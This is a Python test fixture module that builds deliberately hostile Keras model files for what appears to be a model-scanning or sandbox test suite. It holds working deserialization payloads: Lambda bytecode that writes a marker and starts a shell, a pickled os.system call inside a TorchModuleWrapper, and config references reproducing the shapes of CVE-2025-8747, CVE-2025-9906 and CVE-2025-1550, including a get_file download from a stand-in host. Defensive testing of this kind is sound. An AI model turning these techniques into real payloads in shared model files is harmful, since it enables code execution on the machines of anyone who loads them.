"""Hostile Keras models, built at test time from the benign ones in tests/fixtures/keras_models.py
by rewriting their saved config (nothing hostile is ever called while building). Every payload
is harmless outside the sandbox too: it writes the marker it is given (a path under a temp
directory), runs `/bin/sh -c true`, and names only `.invalid` hosts.

- a Lambda layer whose marshalled bytecode writes the marker and starts a shell when the model
  loads (Keras calls the function while it builds the model) and on every call: .keras and .h5;
- a TorchModuleWrapper whose base64 torch.save stream is a pickle calling os.system: Keras's
  torch backend unpickles it (torch.load, weights_only=False) at load; the config itself names
  only Keras (a non-Keras callable Keras calls at load, under safe_mode=False);
- the shape of CVE-2025-8747 / CVE-2025-9906: a Lambda whose function is a Keras utility
  (keras.utils.get_file, keras.config.enable_unsafe_deserialization) named in the config;
  Keras 3.15 refuses it at load, older Keras calls it;
- the shape of CVE-2025-1550: a config naming an arbitrary module's function (builtins.exec).
"""

from __future__ import annotations

import base64
import io
from pathlib import Path
from typing import Any

from tests.fixtures import keras_models as km

# The function marshalled into the hostile Lambda layers (its marker a constant of its code:
# Keras's func_load takes no list of defaults). Defining it runs nothing; it runs in the
# sandbox only, when Keras builds the model and on every call.
PAYLOAD = """
def _payload(x):
    import subprocess
    with open({marker!r}, "w") as f:
        f.write("pwned\\n")
    subprocess.run(["/bin/sh", "-c", "true"], timeout=5, check=False)
    return x
"""


def payload_function(marker: str) -> Any:
    namespace: dict[str, Any] = {}
    exec(PAYLOAD.format(marker=marker), namespace)  # a def only: nothing is called
    return namespace["_payload"]


def _lambda_model(k: Any) -> Any:
    k.utils.set_random_seed(3)
    return k.Sequential(
        [
            k.Input((4,), name="x"),
            k.layers.Lambda(lambda t: t * 2.0, name="scale"),
            k.layers.Dense(2),
        ]
    )


def _lambda_code(marker: str) -> dict[str, Any]:
    from keras.src.utils.python_utils import func_dump

    code, _, _ = func_dump(payload_function(marker))
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}


def _set_lambda(marker: str) -> Any:
    def edit(config: dict[str, Any]) -> None:
        for layer in km.layers(config):
            if layer["class_name"] == "Lambda":
                layer["config"]["function"] = _lambda_code(marker)

    return edit


def lambda_keras(d: Path, marker: str) -> Path:
    """A .keras archive whose Lambda layer's bytecode writes `marker` and starts a shell."""
    clean = km.save(_lambda_model(km.keras()), d / "clean", "lambda.keras")
    return km.rewrite_keras(clean, _set_lambda(marker), d / "lambda.keras")


def lambda_h5(d: Path, marker: str) -> Path:
    """The same Lambda payload in a legacy .h5 file's model_config."""
    path = km.save(_lambda_model(km.keras()), d, "lambda.h5")
    return km.rewrite_h5(path, _set_lambda(marker))


class _System:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, (self.command,))


def torch_module(d: Path, marker: str) -> Path:
    """A TorchModuleWrapper whose pickled module is os.system(a shell writing `marker`)."""
    import torch

    k = km.keras()
    from keras.layers import TorchModuleWrapper

    k.utils.set_random_seed(5)
    model = k.Sequential(
        [k.Input((4,), name="x"), TorchModuleWrapper(torch.nn.Linear(4, 2), name="wrapped")]
    )
    clean = km.save(model, d / "clean", "wrapped.keras")
    buf = io.BytesIO()
    torch.save(_System(f"echo pwned > {marker}"), buf)
    blob = base64.b64encode(buf.getvalue()).decode("ascii")

    def edit(config: dict[str, Any]) -> None:
        for layer in km.layers(config):
            if layer["class_name"] == "TorchModuleWrapper":
                layer["config"]["module"] = blob

    return km.rewrite_keras(clean, edit, d / "wrapped.keras")


def keras_utility(d: Path, marker: str, function: str = "keras.utils.get_file") -> Path:
    """A Lambda whose function is a Keras utility named in the config, with arguments (the
    shape of CVE-2025-8747 and CVE-2025-9906); its origin is under .invalid."""
    module, _, name = function.rpartition(".")
    ref = {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }
    arguments = {"origin": "http://airlock.invalid/x.npz", "cache_dir": str(Path(marker).parent)}

    def edit(config: dict[str, Any]) -> None:
        for layer in km.layers(config):
            if layer["class_name"] == "Lambda":
                layer["config"]["function"] = ref
                layer["config"]["arguments"] = arguments

    clean = km.save(_lambda_model(km.keras()), d / "clean", "utility.keras")
    return km.rewrite_keras(clean, edit, d / "utility.keras")


def arbitrary_module(d: Path, marker: str) -> Path:
    """CVE-2025-1550's shape: a Dense layer's initializer named as builtins.exec."""
    ref = {
        "module": "builtins",
        "class_name": "function",
        "config": "exec",
        "registered_name": None,
    }

    def edit(config: dict[str, Any]) -> None:
        for layer in km.layers(config):
            if layer["class_name"] == "Dense":
                layer["config"]["kernel_initializer"] = ref

    clean = km.save(km.dense(km.keras()), d / "clean", "module.keras")
    return km.rewrite_keras(clean, edit, d / "module.keras")
